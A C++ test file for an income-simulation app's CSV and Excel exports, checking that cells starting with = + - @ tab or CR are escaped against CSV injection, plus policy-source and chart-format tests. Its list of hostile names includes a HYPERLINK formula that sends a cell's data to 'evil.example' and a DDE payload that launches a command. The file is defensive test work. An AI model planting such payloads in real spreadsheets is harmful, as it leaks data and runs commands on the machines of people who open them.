// Issue 14, item 8: every CSV the app exports writes a cell that begins with = + - @, a tab or a carriage return as
// text, with a leading ' (OWASP "CSV Injection"), so Excel or WPS never runs a name as a formula; a figure such as
// "-12.50" or "+3" is a plain number and stays one. The rule is formats::spreadsheet_text; the exports are the app's
// tables (roster, ledger, village, household under a reform), built here natively as the screen builds them.
#include <regex>
#include <string>
#include <vector>

#include <doctest/doctest.h>

#include "app/exports.h"
#include "app/format.h"
#include "app/session.h"
#include "core/money.h"
#include "core/policy.h"
#include "formats/csv_write.h"
#include "formats/roster_file.h"
#include "formats/spreadsheet_read.h"
#include "formats/workbook_json.h"
#include "helpers.h"

namespace {

using namespace zengshou::test;
using zengshou::app::TextTable;

// Names a cadre's roster might carry, written by someone who wants a spreadsheet to run them.
const std::vector<std::string> hostile_names = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
                                                "+1",
                                                "-cmd",
                                                "@SUM(A1:A9)",
                                                "\tx",
                                                "\r=1+1",
                                                "-2+3+cmd|' /C calc'!A0"};

// A CSV file's rows of cells (RFC 4180: quoted cells, doubled quotes, CR LF), after its byte-order mark.
std::vector<std::vector<std::string>> read_csv(const std::string& text) {
  REQUIRE(text.rfind("\xEF\xBB\xBF", 0) == 0);
  std::vector<std::vector<std::string>> rows(1);
  std::string cell;
  bool quoted = false;
  for (size_t i = 3; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
        cell += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        cell += c;
      }
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      rows.back().push_back(cell);
      cell.clear();
    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
      rows.back().push_back(cell);
      cell.clear();
      rows.emplace_back();
      ++i;
    } else {
      cell += c;
    }
  }
  REQUIRE(rows.back().empty());  // the file ends with a line end
  rows.pop_back();
  return rows;
}

// What a cell must become, worked out apart from the code under test: a leading ' exactly when the cell begins
// with = + - @ tab or CR and is not a plain number.
std::string expected_cell(const std::string& cell) {
  static const std::regex plain_number("[+-]?[0-9]+(\\.[0-9]+)?");
  const bool formula_start = !cell.empty() && std::string("=+-@\t\r").find(cell[0]) != std::string::npos;
  return formula_start && !std::regex_match(cell, plain_number) ? "'" + cell : cell;
}

// The export read back cell by cell is the table with the rule applied to each cell; returns the rows read.
std::vector<std::vector<std::string>> check_export(const TextTable& table) {
  const auto rows = read_csv(zengshou::app::csv_text(table));
  REQUIRE_EQ(rows.size(), table.rows.size() + 1);
  for (size_t r = 0; r < rows.size(); ++r) {
    const std::vector<std::string>& cells = r == 0 ? table.header : table.rows[r - 1];
    REQUIRE_EQ(rows[r].size(), cells.size());
    for (size_t c = 0; c < cells.size(); ++c) CHECK_EQ(rows[r][c], expected_cell(cells[c]));
  }
  return rows;
}

bool has_cell(const std::vector<std::vector<std::string>>& rows, const std::string& text) {
  for (const auto& row : rows)
    for (const std::string& cell : row)
      if (cell == text) return true;
  return false;
}

Household named_household(const std::string& name) {
  Household h = household(Category::tuopin, 2022, {adult(1980, {job(JobKind::local, 12, 1500)})}, "yunnan/changning");
  h.id = name;
  h.head = name;
  h.village = name;
  return h;
}

}  // namespace

TEST_CASE("the OWASP rule: a cell that begins with = + - @ tab or CR is written as text, a plain number as is") {
  using zengshou::formats::csv_cell;
  using zengshou::formats::spreadsheet_text;
  CHECK_EQ(spreadsheet_text("=HYPERLINK(\"http://x\")"), "'=HYPERLINK(\"http://x\")");
  CHECK_EQ(spreadsheet_text("-cmd"), "'-cmd");
  CHECK_EQ(spreadsheet_text("@SUM(A1)"), "'@SUM(A1)");
  CHECK_EQ(spreadsheet_text("\tx"), "'\tx");
  CHECK_EQ(spreadsheet_text("\rx"), "'\rx");
  CHECK_EQ(spreadsheet_text("+1+1"), "'+1+1");
  CHECK_EQ(spreadsheet_text("-"), "'-");
  CHECK_EQ(spreadsheet_text("-1."), "'-1.");
  CHECK_EQ(spreadsheet_text("-.5"), "'-.5");
  CHECK_EQ(spreadsheet_text("-1e5"), "'-1e5");
  // Plain numbers, as the app writes figures and differences: a spreadsheet reads them as numbers.
  CHECK_EQ(spreadsheet_text("-12.50"), "-12.50");
  CHECK_EQ(spreadsheet_text("+3"), "+3");
  CHECK_EQ(spreadsheet_text("+1"), "+1");
  CHECK_EQ(spreadsheet_text("1200.00"), "1200.00");
  // Anything else is left as it is.
  CHECK_EQ(spreadsheet_text(""), "");
  CHECK_EQ(spreadsheet_text("张三"), "张三");
  CHECK_EQ(spreadsheet_text("1-2"), "1-2");
  CHECK_EQ(spreadsheet_text(" =1"), " =1");
  // Then CSV quoting: the ' comes inside the quotes.
  CHECK_EQ(csv_cell("=A1,B1"), "\"'=A1,B1\"");
  CHECK_EQ(csv_cell("=\"x\""), "\"'=\"\"x\"\"\"");
  CHECK_EQ(csv_cell("\r=1"), "\"'\r=1\"");
  CHECK_EQ(csv_cell("a,b"), "\"a,b\"");
}

TEST_CASE("the roster export (农户台账) writes hostile ids, heads and villages as text") {
  zengshou::app::Roster roster;
  std::vector<int> order;
  for (const std::string& name : hostile_names) order.push_back(static_cast<int>(roster.add(named_household(name))));
  const auto rows = check_export(zengshou::app::roster_table(roster, order));
  CHECK(has_cell(rows, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"));
  CHECK(has_cell(rows, "+1"));  // a plain number: Excel shows 1, and runs nothing
  CHECK(has_cell(rows, "'-cmd"));
  CHECK(has_cell(rows, "'@SUM(A1:A9)"));
  CHECK(has_cell(rows, "'\tx"));
  CHECK(has_cell(rows, "'\r=1+1"));
  CHECK(has_cell(rows, "'-2+3+cmd|' /C calc'!A0"));
  CHECK_FALSE(has_cell(rows, "-cmd"));
}

TEST_CASE("the ledger export (季度台账) writes hostile names as text and a loss as a number") {
  zengshou::app::Roster roster;
  for (const std::string& name : hostile_names) {
    const size_t i = roster.add(named_household(name));
    zengshou::core::QuarterRecord& q = roster.households()[i].quarter(2022, 1);
    q.production_cost = yuan(500);  // nothing earned, 500 spent: the quarter's net is -500.00
    roster.ledger_changed(i);
  }
  const auto rows = check_export(zengshou::app::ledger_table(roster, 2022));
  CHECK_EQ(rows.size(), hostile_names.size() + 1);
  CHECK(has_cell(rows, "'-cmd"));
  CHECK(has_cell(rows, "'@SUM(A1:A9)"));
  CHECK(has_cell(rows, "-500.00"));
  CHECK_FALSE(has_cell(rows, "'-500.00"));
}

TEST_CASE("the village exports (村级模拟) and the household under a reform keep signed differences as numbers") {
  zengshou::app::Session s;
  s.household() = named_household("-cmd");
  s.household().members[0].jobs = {job(JobKind::public_welfare_post, 12, 0)};
  // A lower floor for public welfare posts (公益性岗位): the post pays less, so differences are negative.
  s.reform().set(ParamId::post_monthly_floor, 10000);
  s.reform_changed();
  s.refresh();
  zengshou::app::VillageModel village;
  village.households = 60;
  village.update(s);
  std::vector<std::vector<std::string>> all;
  for (const TextTable& t :
       {zengshou::app::village_summary_table(village), zengshou::app::village_effect_table(village),
        zengshou::app::village_programme_table(village), zengshou::app::village_decile_table(village),
        zengshou::app::reform_comparison_table(s.result(), s.reform_result())}) {
    const auto rows = check_export(t);
    all.insert(all.end(), rows.begin(), rows.end());
  }
  bool negative = false;
  for (const auto& row : all)
    for (const std::string& cell : row) {
      negative |= cell.size() > 1 && cell[0] == '-';
      CHECK_NE(cell.rfind("'", 0), 0u);  // no label or figure of these tables is a formula
    }
  CHECK(negative);
  SUBCASE("each programme's row names the policy's document and clause for it (issue 15, item 3)") {
    const auto rows = check_export(zengshou::app::village_programme_table(village));
    bool post = false;
    for (const auto& row : rows)
      if (row.front() == "乡村公益性岗位") {
        post = true;
        CHECK_EQ(row.back().rfind("《", 0), 0u);
        CHECK_NE(row.back().find("「"), std::string::npos);
      }
    CHECK(post);
  }
}

TEST_CASE("the roster as an Excel workbook: hostile names stay text, figures are numbers, read back the same") {
  zengshou::app::Roster roster;
  std::vector<int> order;
  for (const std::string& name : hostile_names) order.push_back(static_cast<int>(roster.add(named_household(name))));
  const TextTable table = zengshou::app::roster_table(roster, order);
  const auto workbook = zengshou::app::xlsx_workbook({{"农户台账", table}, {"农户台账", table}});
  CHECK_EQ(workbook.file_name, "roster.xlsx");
  const auto bytes = zengshou::formats::xlsx_from_json(workbook.spec);
  REQUIRE(bytes.ok());
  const auto read = zengshou::formats::read_workbook(bytes.value);
  REQUIRE(read.ok());
  REQUIRE_EQ(read.value.sheets.size(), 2u);
  const zengshou::formats::Sheet& sheet = read.value.sheets[0];
  CHECK_EQ(sheet.name, "农户台账");
  REQUIRE_EQ(sheet.rows(), table.rows.size() + 1);
  for (size_t c = 0; c < table.header.size(); ++c) CHECK_EQ(sheet.text(0, c), table.header[c]);
  for (size_t r = 0; r < table.rows.size(); ++r)
    for (size_t c = 0; c < table.rows[r].size(); ++c) {
      const std::string& cell = table.rows[r][c];
      INFO(r, " ", c, " ", cell);
      if (sheet.kind(r + 1, c) == zengshou::formats::CellKind::number)  // a figure: the same to the fen
        CHECK_EQ(zengshou::core::parse_yuan_text(sheet.text(r + 1, c)), zengshou::core::parse_yuan_text(cell));
      else  // text as written, = + - @ and all: a string cell runs nothing
        CHECK_EQ(sheet.text(r + 1, c), cell);
    }
}

// Issue 18, item 2: an exported workbook carries the policy its figures come from — every parameter with its value,
// date and source, or 假设 with why — and the documents those sources name, once each.
TEST_CASE("政策与依据 and 依据文件: each parameter's source or assumption, each document once") {
  using zengshou::core::PolicySet;
  const PolicySet& set = PolicySet::embedded();
  const auto& changning = *set.find("yunnan/changning");
  const std::vector<zengshou::core::YearParameters> policies{set.resolve(changning, 2022),
                                                             set.resolve(changning, 2024)};
  const TextTable params = zengshou::app::policy_table(policies);
  CHECK_EQ(params.header, std::vector<std::string>{"政策", "年度", "参数", "数值", "生效日期", "出处"});
  // public_welfare_post.available: sourced for 2022 (三(一)4), assumed from 2023 on, leaning on the same clause.
  const std::string name = zengshou::app::param_name(zengshou::core::ParamId::public_welfare_post_available);
  std::vector<std::vector<std::string>> rows;
  for (const auto& row : params.rows)
    if (row[2] == name) rows.push_back(row);
  REQUIRE_EQ(rows.size(), 2u);
  CHECK_EQ(rows[0][0], "昌宁县2022年脱贫人口持续增收工作要点");
  CHECK_EQ(rows[0][1], "2022");
  CHECK_EQ(rows[0][4], "2022-01-01");
  CHECK_EQ(rows[0][5], "《昌宁县2022年脱贫人口持续增收工作要点》三(一)4「规范乡村公益性岗位管理」");
  CHECK_EQ(rows[1][1], "2024");
  CHECK_EQ(rows[1][4], "2023-01-01");
  CHECK_EQ(rows[1][5],
           "(假设值) 沿用2022年,文件只写到2022年 参照 "
           "《昌宁县2022年脱贫人口持续增收工作要点》三(一)4「规范乡村公益性岗位管理」");

  const TextTable documents = zengshou::app::policy_documents_table(policies);
  CHECK_EQ(documents.header, std::vector<std::string>{"文件", "发布机构", "文号", "发布日期"});
  size_t changning_rows = 0;
  for (const auto& row : documents.rows)
    if (row[0] == "昌宁县2022年脱贫人口持续增收工作要点") {
      ++changning_rows;
      CHECK_EQ(row[1], "昌宁县乡村振兴局");
      CHECK_EQ(row[3], "2022-08-08");
    }
  CHECK_EQ(changning_rows, 1u);  // cited by many parameters in two years: one row

  // The workbook: the tables, then the two sheets.
  const auto workbook = zengshou::app::xlsx_workbook(params, policies);
  const auto bytes = zengshou::formats::xlsx_from_json(workbook.spec);
  REQUIRE(bytes.ok());
  const auto read = zengshou::formats::read_workbook(bytes.value);
  REQUIRE(read.ok());
  REQUIRE_EQ(read.value.sheets.size(), 3u);
  CHECK_EQ(read.value.sheets[1].name, "政策与依据");
  CHECK_EQ(read.value.sheets[2].name, "依据文件");
  CHECK_EQ(read.value.sheets[2].rows(), documents.rows.size() + 1);
}

// Issue 20, 4: the import template reads back whole — every column known, the example household as written. By
// hand (Changning 2022): wage 10 × 4000 + 12 × 800 (post, at the 800 floor) = 49600, production 12000 − 5000 =
// 7000; net 56600 for three people = 18866.67 a person.
TEST_CASE("the import template is a roster the app reads: no column left out, its household as worked by hand") {
  const zengshou::app::TextTable t = zengshou::app::roster_template_table(2022);
  const auto read = zengshou::formats::parse_roster(zengshou::app::csv_text(t));
  REQUIRE(read.roster.ok());
  CHECK(read.ignored.empty());
  CHECK(read.own_columns);  // every column known, the year and category in columns: imported at once
  REQUIRE_EQ(read.roster.value.size(), 1);
  zengshou::core::Household h = read.roster.value[0].household;
  CHECK_EQ(h.size(), 3);
  CHECK_EQ(h.head, "张建国");
  CHECK_EQ(h.members[2].school->level, zengshou::core::SchoolLevel::secondary_vocational);
  h.policy = "yunnan/changning";
  const auto r = zengshou::test::run(h, "yunnan/changning", 2022);
  CHECK_EQ(r.income.wage, zengshou::core::Money::yuan(49600));
  CHECK_EQ(r.income.per_capita_net, zengshou::core::Money::fen(1886667));
}

// Issue 20, 7: chart axes a room can read — separators, and 万 for large figures in Chinese.
TEST_CASE("chart figures: 8,000 and 1.5万 in Chinese, 30,000 in English") {
  using zengshou::app::chart_number;
  zengshou::app::set_language(zengshou::app::Language::zh_CN);
  CHECK_EQ(chart_number(0), "0");
  CHECK_EQ(chart_number(950), "950");
  CHECK_EQ(chart_number(8000), "8,000");
  CHECK_EQ(chart_number(10000), "1万");
  CHECK_EQ(chart_number(15000), "1.5万");
  CHECK_EQ(chart_number(30000), "3万");
  CHECK_EQ(chart_number(-2500), "-2,500");
  zengshou::app::set_language(zengshou::app::Language::en);
  CHECK_EQ(chart_number(30000), "30,000");
  CHECK_EQ(chart_number(1234567), "1,234,567");
  zengshou::app::set_language(zengshou::app::Language::zh_CN);
}
